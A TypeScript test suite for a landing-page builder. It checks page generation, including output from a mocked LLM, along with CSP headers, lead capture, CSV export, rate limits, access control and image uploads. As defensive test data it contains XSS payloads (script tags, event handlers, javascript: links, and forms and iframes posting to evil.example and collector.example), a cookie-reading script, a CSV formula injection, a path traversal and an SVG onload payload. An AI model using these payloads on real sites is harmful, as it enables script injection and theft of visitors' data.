import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { contextOf } from '../../app.ts';
import { landingImages, landingLeads } from '../../db/schema/index.ts';
import {
  ADMIN,
  as,
  createTestApp,
  form,
  login,
  register,
  type TestApp,
  userWithRole,
} from '../../test/test-app.ts';
import { LEADS_PER_IP, POSTS_PER_IP } from './landing-page.routes.ts';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const contactForm = {
  fields: [
    { name: 'name', label: 'Your name', type: 'text', required: true },
    { name: 'email', label: 'E-mail', type: 'email', required: true },
    { name: 'phone', label: 'Phone number', type: 'phone', required: false },
    { name: 'budget', label: 'Budget', type: 'number', required: false },
    { name: 'message', label: 'Message', type: 'textarea', required: false },
  ],
  submit_label: '',
};

async function owner(app = t.app) {
  const u = await register(app);
  return { ...u, api: as(app, u.access_token) };
}

async function landingOf(api: ReturnType<typeof as>, extra: Record<string, unknown> = {}) {
  const res = await api.post('/api/landings', {
    landing: {
      title: 'Spring Sale',
      headline: 'Solar panels at half price',
      description: 'Cut your bills by half. Installed in one day. Ten years of warranty.',
      form: contactForm,
      ...extra,
    },
  });
  expect(res.statusCode).toBe(201);
  return res.json();
}

const publicPost = (slug: string, values: Record<string, string>, remoteAddress = '127.0.0.1') =>
  t.app.inject({ method: 'POST', url: `/l/${slug}`, remoteAddress, ...form(values) });

test('generation before the form has fields is refused with "Landing needs a form first"', async () => {
  const o = await owner();
  const landing = (await o.api.post('/api/landings', { landing: { title: 'Empty' } })).json();
  expect(landing).toMatchObject({ status: 'inactive', html: null, generated_at: null, leads: 0 });
  expect(landing.form).toEqual({ fields: [], submit_label: '' });
  const res = await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
  expect(res.statusCode).toBe(422);
  expect(res.json().errors).toEqual([
    { field: 'form', code: 'landing_needs_form', detail: 'Landing needs a form first' },
  ]);
});

test('the template page holds every field with its label, input type and required mark', async () => {
  const o = await owner();
  const landing = await landingOf(o.api);
  expect(landing.slug).toMatch(/^spring-sale-[0-9a-f]{10}$/);
  expect(landing.public_url).toBe(`http://localhost:8080/l/${landing.slug}`);
  const res = await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
  expect(res.statusCode).toBe(200);
  const { html, generated_at } = res.json();
  expect(generated_at).not.toBeNull();
  expect(html).toContain('<h1>Solar panels at half price</h1>');
  expect(html).toContain('Cut your bills by half.');
  expect(html).toContain('Installed in one day.'); // a benefit
  expect(html).toContain('<style>');
  expect(html).toContain('@media (min-width:760px)');
  expect(html).toContain(`<form method="post" action="/l/${landing.slug}">`);
  for (const f of contactForm.fields) expect(html).toContain(`<label for="f-${f.name}">${f.label}`);
  expect(html).toMatch(/<input id="f-name" name="name" type="text"[^>]*required/);
  expect(html).toMatch(/<input id="f-email" name="email" type="email"[^>]*required/);
  expect(html).toMatch(/<input id="f-phone" name="phone" type="tel"/);
  expect(html).toMatch(/<input id="f-budget" name="budget" type="number"/);
  expect(html).toMatch(/<textarea id="f-message" name="message"/);
  expect(html).not.toMatch(/<input id="f-phone"[^>]*required/);
  expect(html).toContain('<button type="submit">Send</button>');

  // the texts follow the requested language; a submit label of the owner wins
  await o.api.put(`/api/landings/${landing._id}`, {
    landing: { form: { ...contactForm, submit_label: 'Get a quote' } },
  });
  const de = await o.api.post('/api/landings/generate', {
    user_id: o.user_id,
    page_id: landing._id,
    locale: 'de',
  });
  expect(de.json().html).toContain('Mit * markierte Felder sind Pflichtfelder');
  expect(de.json().html).toContain('<button type="submit">Get a quote</button>');
});

test('the public page is served only while active, with a script-free CSP', async () => {
  const o = await owner();
  const landing = await landingOf(o.api);
  expect((await t.app.inject({ method: 'GET', url: `/l/${landing.slug}` })).statusCode).toBe(404);
  await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
  expect((await t.app.inject({ method: 'GET', url: `/l/${landing.slug}` })).statusCode).toBe(404);
  await o.api.put(`/api/landings/${landing._id}`, { landing: { status: 'active' } });

  const page = await t.app.inject({ method: 'GET', url: `/l/${landing.slug}` });
  expect(page.statusCode).toBe(200);
  expect(page.headers['content-type']).toBe('text/html; charset=utf-8');
  expect(page.body).toMatch(/^<!doctype html><html lang="en">/);
  expect(page.body).toContain('<meta name="viewport" content="width=device-width,initial-scale=1">');
  expect(page.body).toContain('<title>Spring Sale</title>');
  expect(page.body).toContain('Solar panels at half price');
  const csp = String(page.headers['content-security-policy']);
  expect(csp).toContain("default-src 'none'");
  expect(csp).toContain("style-src 'unsafe-inline'");
  expect(csp).toContain("form-action 'self'");
  expect(csp).not.toContain('script-src');

  expect((await t.app.inject({ method: 'GET', url: '/l/no-such-page' })).statusCode).toBe(404);
  expect((await t.app.inject({ method: 'GET', url: '/l/..%2Fetc' })).statusCode).toBe(404);
});

describe('leads', () => {
  test('a submission keeps only the form fields, shows thanks, and appears in leads and the CSV', async () => {
    const o = await owner();
    const landing = await landingOf(o.api, { status: 'active' });
    await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });

    const sent = await publicPost(landing.slug, {
      name: '  Ann "The Buyer", Smith ',
      email: 'ann@example.com',
      message: '=HYPERLINK("http://evil")',
      is_admin: 'yes',
    });
    expect(sent.statusCode).toBe(200);
    expect(sent.body).toContain('Thank you!');
    await publicPost(landing.slug, { name: 'Bob', email: 'bob@example.com', budget: '1500' });

    const leads = await o.api.get(`/api/landings/${landing._id}/leads`);
    expect(leads.statusCode).toBe(200);
    expect(leads.json()).toMatchObject({ total: 2, page: 1, limit: 20 });
    const [newest, oldest] = leads.json().items;
    expect(newest.data).toEqual({ name: 'Bob', email: 'bob@example.com', budget: '1500' });
    expect(oldest.data).toEqual({
      name: 'Ann "The Buyer", Smith',
      email: 'ann@example.com',
      message: '=HYPERLINK("http://evil")',
    });
    expect(oldest.landing_id).toBe(landing._id);
    expect((await o.api.get(`/api/landings/${landing._id}`)).json().leads).toBe(2);

    const csv = await o.api.get(`/api/landings/${landing._id}/leads.csv`);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe(
      `attachment; filename="landing-${landing._id}-leads.csv"`,
    );
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines[0]).toBe('"Your name","E-mail","Phone number","Budget","Message","Date"');
    expect(lines[1]).toMatch(
      /^"Ann ""The Buyer"", Smith","ann@example.com","","","'=HYPERLINK\(""http:\/\/evil""\)","\d{4}-\d\d-\d\dT[^"]+"$/,
    );
    expect(lines[2]).toMatch(/^"Bob","bob@example.com","","1500","","/);
    expect(lines).toHaveLength(3);
  });

  test('a missing required field or a bad e-mail is refused and the page comes back filled in', async () => {
    const o = await owner();
    const landing = await landingOf(o.api, { status: 'active' });
    await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
    const res = await publicPost(landing.slug, { email: 'not-an-email', message: 'Call me <b>now</b>' });
    expect(res.statusCode).toBe(422);
    expect(res.headers['content-security-policy']).toContain("default-src 'none'");
    expect(res.body).toContain('role="alert"');
    expect(res.body).toContain("Your name can't be empty");
    expect(res.body).toContain('E-mail must be a valid email');
    expect(res.body).toContain('value="not-an-email"');
    expect(res.body).toContain('Call me &lt;b&gt;now&lt;/b&gt;</textarea>');
    expect(res.body).not.toContain('<b>now</b>');
    const rows = await t.database.db
      .select()
      .from(landingLeads)
      .where(eq(landingLeads.landingId, Number(landing._id)));
    expect(rows).toHaveLength(0);
  });

  test('a field added to the form of a generated page gets an input, so visitors can still send leads', async () => {
    const o = await owner();
    const landing = await landingOf(o.api, { status: 'active' });
    await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
    const form = (await o.api.get(`/api/landings/${landing._id}`)).json().form;
    const changed = await o.api.put(`/api/landings/${landing._id}`, {
      landing: {
        form: {
          ...form,
          fields: [...form.fields, { name: 'company', label: 'Company', type: 'text', required: true }],
        },
      },
    });
    expect(changed.statusCode, changed.body).toBe(200);
    expect(changed.json().html).toContain('name="company"');
    const sent = await publicPost(landing.slug, {
      name: 'Ann',
      email: 'ann@example.com',
      company: 'Acme',
    });
    expect(sent.statusCode, sent.body).toBe(200);
    // a page edited by hand without the field gets the form's own block too
    const hand = await o.api.put(`/api/landings/${landing._id}`, {
      landing: { html: '<h1>Offer</h1><form method="post"><input name="email" type="email"></form>' },
    });
    expect(hand.json().html).toContain('<h1>Offer</h1>');
    expect(hand.json().html).toContain('name="company"');
  });

  test('one address can leave only a few leads in a row on a landing; refused submissions do not count', async () => {
    const o = await owner();
    const landing = await landingOf(o.api, { status: 'active' });
    const other = await landingOf(o.api, { status: 'active' });
    for (const l of [landing, other])
      await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: l._id });
    const lead = { name: 'N', email: 'n@example.com' };
    // a visitor's typos cost it nothing
    for (let i = 0; i < 3; i++)
      expect((await publicPost(landing.slug, { name: 'N', email: 'typo' }, '10.9.9.9')).statusCode).toBe(422);
    for (let i = 0; i < LEADS_PER_IP; i++)
      expect((await publicPost(landing.slug, lead, '10.9.9.9')).statusCode).toBe(200);
    const refused = await publicPost(landing.slug, lead, '10.9.9.9');
    expect(refused.statusCode).toBe(429);
    expect(refused.body).toContain('Too many attempts');
    // another landing, and another address, are counted apart
    expect((await publicPost(other.slug, lead, '10.9.9.9')).statusCode).toBe(200);
    expect((await publicPost(landing.slug, lead, '10.9.9.10')).statusCode).toBe(200);
    // leads sent at once: the limit holds
    const burst = await Promise.all(
      Array.from({ length: LEADS_PER_IP + 5 }, () => publicPost(other.slug, lead, '10.9.9.12')),
    );
    expect(burst.filter((r) => r.statusCode === 200)).toHaveLength(LEADS_PER_IP);
    // a flood of submissions, valid or not, stops at POSTS_PER_IP an address
    let last = 0;
    for (let i = 0; i < POSTS_PER_IP + 1; i++)
      last = (await publicPost(other.slug, { name: 'N', email: 'typo' }, '10.9.9.11')).statusCode;
    expect(last).toBe(429);
  });
});

test('HTML edited by hand is sanitised again: no scripts, handlers, javascript: links or foreign forms', async () => {
  const o = await owner();
  const landing = await landingOf(o.api);
  const res = await o.api.put(`/api/landings/${landing._id}`, {
    landing: {
      html: `<h1 onclick="steal()">Hi</h1><script>alert(1)</script><a href="javascript:alert(2)">x</a>
<img src="x" onerror="alert(3)"><iframe src="https://evil.example"></iframe>
<form action="https://evil.example/steal" method="get" onsubmit="x()"><input name="name" type="text"><button formaction="https://evil.example">Go</button></form>`,
    },
  });
  expect(res.statusCode).toBe(200);
  const { html } = res.json();
  expect(html).toContain('<h1>Hi</h1>');
  for (const bad of [
    '<script',
    'alert(1)',
    'onclick',
    'onerror',
    'javascript:',
    'iframe',
    'evil.example',
    'onsubmit',
  ])
    expect(html).not.toContain(bad);
  expect(html).toContain(`<form method="post" action="/l/${landing.slug}">`);
  expect(res.json().generated_at).toBeNull();
  const cleared = await o.api.put(`/api/landings/${landing._id}`, { landing: { html: null } });
  expect(cleared.json().html).toBeNull();
});

test('form field names are unique and fit the form builder rules', async () => {
  const o = await owner();
  const dup = await o.api.post('/api/landings', {
    landing: {
      title: 'Dup',
      form: {
        fields: [
          { name: 'email', label: 'A' },
          { name: 'email', label: 'B' },
        ],
      },
    },
  });
  expect(dup.statusCode).toBe(422);
  expect(dup.json().errors[0].field).toBe('form.fields.1.name');
  const bad = await o.api.post('/api/landings', {
    landing: { title: 'Bad', form: { fields: [{ name: 'Bad Name!', label: 'A' }] } },
  });
  expect(bad.statusCode).toBe(422);
});

test('ownership: another user gets 404, readonly roles cannot write, admins see every landing', async () => {
  const a = await owner();
  const b = await owner();
  const landing = await landingOf(a.api);
  for (const url of [
    `/api/landings/${landing._id}`,
    `/api/landings/${landing._id}/leads`,
    `/api/landings/${landing._id}/leads.csv`,
  ])
    expect((await b.api.get(url)).statusCode, url).toBe(404);
  expect((await b.api.put(`/api/landings/${landing._id}`, { landing: { title: 'x' } })).statusCode).toBe(404);
  expect((await b.api.del(`/api/landings/${landing._id}`)).statusCode).toBe(404);
  expect(
    (await b.api.post('/api/landings/generate', { user_id: a.user_id, page_id: landing._id })).statusCode,
  ).toBe(404);
  // the landing is not b's, whatever user_id says
  expect(
    (await a.api.post('/api/landings/generate', { user_id: b.user_id, page_id: landing._id })).statusCode,
  ).toBe(404);
  expect((await b.api.get(`/api/landings?user_id=${a.user_id}`)).json().total).toBe(0);

  const ro = await userWithRole(t, 'defaultreadonly');
  const roApi = as(t.app, (await login(t.app, ro.email, ro.password)).access_token);
  expect((await roApi.post('/api/landings', { landing: { title: 'x' } })).statusCode).toBe(403);

  const aro = await userWithRole(t, 'adminreadonly');
  const aroApi = as(t.app, (await login(t.app, aro.email, aro.password)).access_token);
  expect((await aroApi.get(`/api/landings/${landing._id}`)).statusCode).toBe(200);
  expect((await aroApi.get(`/api/landings/${landing._id}/leads.csv`)).statusCode).toBe(200);
  expect((await aroApi.put(`/api/landings/${landing._id}`, { landing: { title: 'x' } })).statusCode).toBe(
    403,
  );
  expect(
    (await aroApi.post('/api/landings/generate', { user_id: a.user_id, page_id: landing._id })).statusCode,
  ).toBe(403);
  expect((await aroApi.del(`/api/landings/${landing._id}`)).statusCode).toBe(403);

  const admin = as(t.app, (await login(t.app, ADMIN.email, ADMIN.password)).access_token);
  const listed = (await admin.get(`/api/landings?user_id=${a.user_id}`)).json();
  expect(listed.total).toBe(1);
  expect(listed.items[0]._id).toBe(landing._id);
  const forA = await admin.post('/api/landings', { landing: { title: 'By admin', user_id: a.user_id } });
  expect(forA.json().user_id).toBe(a.user_id);
  expect((await a.api.del(`/api/landings/${landing._id}`)).statusCode).toBe(204);
  expect((await a.api.get(`/api/landings/${landing._id}`)).statusCode).toBe(404);
});

describe('an OpenAI-compatible generator', () => {
  let llm: Server;
  let app: TestApp;
  const requests: { url: string; auth: string; body: Record<string, unknown> }[] = [];
  let answer: () => { status: number; body: unknown } = () => ({ status: 500, body: {} });
  const chat = (content: string) => ({
    status: 200,
    body: {
      id: 'c1',
      object: 'chat.completion',
      choices: [{ index: 0, message: { role: 'assistant', content } }],
    },
  });

  beforeAll(async () => {
    llm = createServer((req, res) => {
      let raw = '';
      req.on('data', (c) => {
        raw += c;
      });
      req.on('end', () => {
        requests.push({ url: req.url ?? '', auth: req.headers.authorization ?? '', body: JSON.parse(raw) });
        const a = answer();
        res.writeHead(a.status, { 'content-type': 'application/json' });
        res.end(JSON.stringify(a.body));
      });
    });
    llm.listen(0, '127.0.0.1');
    await once(llm, 'listening');
    const port = (llm.address() as AddressInfo).port;
    app = await createTestApp({ LLM_BASE_URL: `http://127.0.0.1:${port}/v1/`, LLM_API_KEY: 'test-key' });
  });
  afterAll(async () => {
    await app.close();
    llm.close();
  });

  test('its page is used, unfenced and stripped of scripts and handlers', async () => {
    const o = await owner(app.app);
    const landing = (
      await o.api.post('/api/landings', {
        landing: { title: 'AI', headline: 'Fast loans', form: contactForm },
      })
    ).json();
    answer = () =>
      chat(
        '```html\n<style>.hero{color:red}</style><section class="hero"><h1 onclick="track()">Fast loans</h1>' +
          '<script>document.cookie</script><a href="javascript:void(0)">more</a>' +
          `<form action="https://collector.example/"><label for="n">Your name</label>${contactForm.fields
            .map((f) =>
              f.type === 'textarea' ? `<textarea name="${f.name}"></textarea>` : `<input name="${f.name}">`,
            )
            .join('')}<button type="submit">Send</button></form></section>` +
          '\n```',
      );
    const res = await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
    expect(res.statusCode).toBe(200);
    const { html } = res.json();
    expect(html).toContain('<style>.hero{color:red}</style>');
    expect(html).toContain('<h1>Fast loans</h1>');
    expect(html).not.toContain('```');
    for (const bad of ['<script', 'document.cookie', 'onclick', 'javascript:', 'collector.example'])
      expect(html).not.toContain(bad);
    expect(html).toContain(`<form method="post" action="/l/${landing.slug}">`);
    expect(html).not.toContain('lp-fallback-form');

    const sent = requests.at(-1)!;
    expect(sent.url).toBe('/v1/chat/completions');
    expect(sent.auth).toBe('Bearer test-key');
    expect(sent.body.model).toBe('gpt-4o-mini');
    const prompt = JSON.stringify(sent.body.messages);
    for (const f of contactForm.fields) expect(prompt).toContain(`name=\\"${f.name}\\"`);
    expect(prompt).toContain('Fast loans');
  });

  test('a page that forgot form fields gets the built-in form', async () => {
    const o = await owner(app.app);
    const landing = (
      await o.api.post('/api/landings', { landing: { title: 'AI 2', form: contactForm } })
    ).json();
    answer = () =>
      chat(
        '<html><head><title>x</title></head><body><h1>Only a headline</h1><form><input name="name"></form></body></html>',
      );
    const res = await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
    const { html } = res.json();
    expect(html).toContain('<h1>Only a headline</h1>');
    expect(html).not.toContain('<title>');
    expect(html).toContain('lp-fallback-form');
    for (const f of contactForm.fields) expect(html).toContain(`name="${f.name}"`);
    expect(html.match(/<form /g)).toHaveLength(1);
  });

  test('a failing service answers 502 and keeps the page as it was', async () => {
    const o = await owner(app.app);
    const landing = (
      await o.api.post('/api/landings', { landing: { title: 'AI 3', form: contactForm } })
    ).json();
    answer = () => ({ status: 500, body: { error: { message: 'overloaded' } } });
    const res = await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
    expect(res.statusCode).toBe(502);
    expect(res.json()).toMatchObject({ error: 'landing_generation_failed' });
    answer = () => chat('   ');
    expect(
      (await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id })).statusCode,
    ).toBe(502);
    expect((await o.api.get(`/api/landings/${landing._id}`)).json().html).toBeNull();
  });
});

describe('image upload (dash landing upload)', () => {
  // a 1×1 PNG
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
    'base64',
  );
  function upload(landingId: string, token: string | undefined, file: Buffer, lang = 'en') {
    const boundary = 'landingb0undary';
    const payload = Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="hero.png"\r\nContent-Type: image/png\r\n\r\n`,
      ),
      file,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    return t.app.inject({
      method: 'POST',
      url: `/api/landings/${landingId}/images`,
      payload,
      headers: {
        ...(token ? { authorization: `Bearer ${token}` } : {}),
        'content-type': `multipart/form-data; boundary=${boundary}`,
        'accept-language': lang,
      },
    });
  }

  test('the owner uploads an image: its public URL serves it and the page may show it', async () => {
    const o = await owner();
    const landing = await landingOf(o.api);
    const res = await upload(landing._id, o.access_token, png);
    expect(res.statusCode).toBe(201);
    const { url } = res.json();
    expect(url).toMatch(new RegExp(`/uploads/landings/${landing._id}-[0-9a-f]{16}\\.png$`));
    const served = await t.app.inject({ method: 'GET', url: new URL(url).pathname });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.rawPayload.equals(png)).toBe(true);
    // the image goes into the page's HTML, survives the sanitiser, and the page's CSP lets it load
    await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
    const saved = await o.api.put(`/api/landings/${landing._id}`, {
      landing: { status: 'active', html: `<main><img src="${url}" alt="Hero"><p>Hello</p></main>` },
    });
    expect(saved.json().html).toContain(`<img src="${url}" alt="Hero"`);
    const page = await t.app.inject({ method: 'GET', url: `/l/${landing.slug}` });
    expect(page.body).toContain(`src="${url}"`);
    expect(String(page.headers['content-security-policy'])).toContain("img-src 'self'");
  });

  test('only the owner or an admin: others 404, read-only 403, signed out 401', async () => {
    const o = await owner();
    const landing = await landingOf(o.api);
    const stranger = await owner();
    expect((await upload(landing._id, stranger.access_token, png)).statusCode).toBe(404);
    const reader = await userWithRole(t, 'adminreadonly');
    expect((await upload(landing._id, reader.access_token, png)).statusCode).toBe(403);
    expect((await upload(landing._id, undefined, png)).statusCode).toBe(401);
    expect((await upload('999999', o.access_token, png)).statusCode).toBe(404);
    const admin = await login(t.app, ADMIN.email, ADMIN.password);
    expect((await upload(landing._id, admin.access_token, png)).statusCode).toBe(201);
  });

  const served = async (url: string) =>
    (await t.app.inject({ method: 'GET', url: new URL(url).pathname })).statusCode;
  async function uploaded(landingId: string, token: string) {
    const res = await upload(landingId, token, png);
    expect(res.statusCode).toBe(201);
    return res.json().url as string;
  }
  /** The landing's uploads as if they had been sent two hours ago (the age rule reads the stored time). */
  const ageUploads = (landingId: string) =>
    t.database.db
      .update(landingImages)
      .set({ createdAt: sql`now() - interval '2 hours'` })
      .where(eq(landingImages.landingId, Number(landingId)));
  const savePage = (api: ReturnType<typeof as>, landingId: string, html: string | null) =>
    api.put(`/api/landings/${landingId}`, { landing: { html } });

  test('deleting a landing deletes its uploaded images: their URLs answer 404', async () => {
    const o = await owner();
    const landing = await landingOf(o.api);
    const shown = await uploaded(landing._id, o.access_token);
    const unused = await uploaded(landing._id, o.access_token);
    await savePage(o.api, landing._id, `<p><img src="${shown}" alt=""></p>`);
    expect(await served(shown)).toBe(200);
    expect((await o.api.del(`/api/landings/${landing._id}`)).statusCode).toBe(204);
    expect(await served(shown)).toBe(404);
    expect(await served(unused)).toBe(404);
  });

  test('the generic DELETE /api/entities/landings/{id} deletes the images as well', async () => {
    const o = await owner();
    const landing = await landingOf(o.api);
    const url = await uploaded(landing._id, o.access_token);
    expect((await o.api.del(`/api/entities/landings/${landing._id}`)).statusCode).toBe(204);
    expect(await served(url)).toBe(404);
  });

  test('a file the storage fails to delete does not fail the delete', async () => {
    const o = await owner();
    const landing = await landingOf(o.api);
    const url = await uploaded(landing._id, o.access_token);
    const failing = vi
      .spyOn(contextOf(t.app).storage, 'delete')
      .mockRejectedValueOnce(new Error('disk unavailable'));
    try {
      expect((await o.api.del(`/api/landings/${landing._id}`)).statusCode).toBe(204);
      expect(failing).toHaveBeenCalledWith(new URL(url).pathname.slice('/uploads/'.length));
    } finally {
      failing.mockRestore();
    }
    expect((await o.api.get(`/api/landings/${landing._id}`)).statusCode).toBe(404);
  });

  test('a saved page deletes the uploads it no longer shows, once they are an hour old', async () => {
    const o = await owner();
    const landing = await landingOf(o.api);
    const kept = await uploaded(landing._id, o.access_token);
    const dropped = await uploaded(landing._id, o.access_token);
    const page = `<main><img src="${kept}" alt="Hero"><p>Hello</p></main>`;
    // just uploaded: the save that shows it may still be on its way, so it stays
    expect((await savePage(o.api, landing._id, page)).statusCode).toBe(200);
    expect(await served(dropped)).toBe(200);
    await ageUploads(landing._id);
    // a change that leaves the page alone deletes nothing
    await o.api.put(`/api/landings/${landing._id}`, { landing: { title: 'Renamed' } });
    expect(await served(dropped)).toBe(200);
    expect((await savePage(o.api, landing._id, page)).statusCode).toBe(200);
    expect(await served(kept)).toBe(200);
    expect(await served(dropped)).toBe(404);
    // the page shows the image as a CSS background: still in use
    const styled = await uploaded(landing._id, o.access_token);
    await ageUploads(landing._id);
    const saved = await savePage(
      o.api,
      landing._id,
      `<div style="background-image:url('${styled}')"><img src="${kept}" alt=""></div>`,
    );
    expect(saved.json().html).toContain(styled);
    expect(await served(styled)).toBe(200);
    // the page emptied: nothing shows them any more
    expect((await savePage(o.api, landing._id, null)).statusCode).toBe(200);
    expect(await served(kept)).toBe(404);
    expect(await served(styled)).toBe(404);
  });

  test('a regenerated page deletes the uploads it does not show, once they are an hour old', async () => {
    const o = await owner();
    const landing = await landingOf(o.api);
    const shown = await uploaded(landing._id, o.access_token);
    const unused = await uploaded(landing._id, o.access_token);
    await savePage(o.api, landing._id, `<main><img src="${shown}" alt="Hero"></main>`);
    await ageUploads(landing._id);
    const young = await uploaded(landing._id, o.access_token);
    const generate = () => o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
    const res = await generate();
    expect(res.statusCode).toBe(200);
    expect(res.json().html).not.toContain(shown);
    // the generated page shows none of them: the old ones go, the one just uploaded stays for its save
    expect(await served(shown)).toBe(404);
    expect(await served(unused)).toBe(404);
    expect(await served(young)).toBe(200);
    const left = await t.database.db
      .select({ key: landingImages.key })
      .from(landingImages)
      .where(eq(landingImages.landingId, Number(landing._id)));
    expect(left.map((r) => r.key)).toEqual([new URL(young).pathname.slice('/uploads/'.length)]);
    await ageUploads(landing._id);
    expect((await generate()).statusCode).toBe(200);
    expect(await served(young)).toBe(404);
  });

  test("another user cannot touch a landing's images, nor claim them by showing them", async () => {
    const o = await owner();
    const landing = await landingOf(o.api);
    const url = await uploaded(landing._id, o.access_token);
    await savePage(o.api, landing._id, `<img src="${url}" alt="">`);
    await ageUploads(landing._id);
    const stranger = await owner();
    // the owner's landing is invisible to them
    expect((await savePage(stranger.api, landing._id, '<p>Nothing</p>')).statusCode).toBe(404);
    expect((await stranger.api.del(`/api/landings/${landing._id}`)).statusCode).toBe(404);
    expect((await stranger.api.del(`/api/entities/landings/${landing._id}`)).statusCode).toBe(404);
    expect(await served(url)).toBe(200);
    // their own landing showing the owner's image, then deleted: the owner's file stays
    const theirs = await landingOf(stranger.api);
    const own = await uploaded(theirs._id, stranger.access_token);
    await savePage(stranger.api, theirs._id, `<img src="${url}" alt=""><img src="${own}" alt="">`);
    await ageUploads(theirs._id);
    await savePage(stranger.api, theirs._id, '<p>Nothing</p>');
    expect(await served(own)).toBe(404);
    expect(await served(url)).toBe(200);
    expect((await stranger.api.del(`/api/landings/${theirs._id}`)).statusCode).toBe(204);
    expect(await served(url)).toBe(200);
  });

  test('not an image, too large or no file: a translated 422 on file', async () => {
    const o = await owner();
    const landing = await landingOf(o.api);
    const text = await upload(
      landing._id,
      o.access_token,
      Buffer.from('<svg onload="alert(1)"></svg>'),
      'de',
    );
    expect(text.statusCode).toBe(422);
    expect(text.json().errors).toEqual([
      expect.objectContaining({ field: 'file', code: 'image_type', detail: expect.stringMatching(/PNG/) }),
    ]);
    const big = Buffer.concat([png, Buffer.alloc(5 * 1024 * 1024)]);
    const tooLarge = await upload(landing._id, o.access_token, big);
    expect(tooLarge.statusCode).toBe(422);
    expect(tooLarge.json().errors).toEqual([
      expect.objectContaining({
        field: 'file',
        code: 'image_too_large',
        detail: 'The image is larger than 5 MB',
      }),
    ]);
    const empty = await upload(landing._id, o.access_token, Buffer.alloc(0));
    expect(empty.statusCode).toBe(422);
    expect(empty.json().errors[0]).toMatchObject({ field: 'file', code: 'invalid_file' });
  });
});
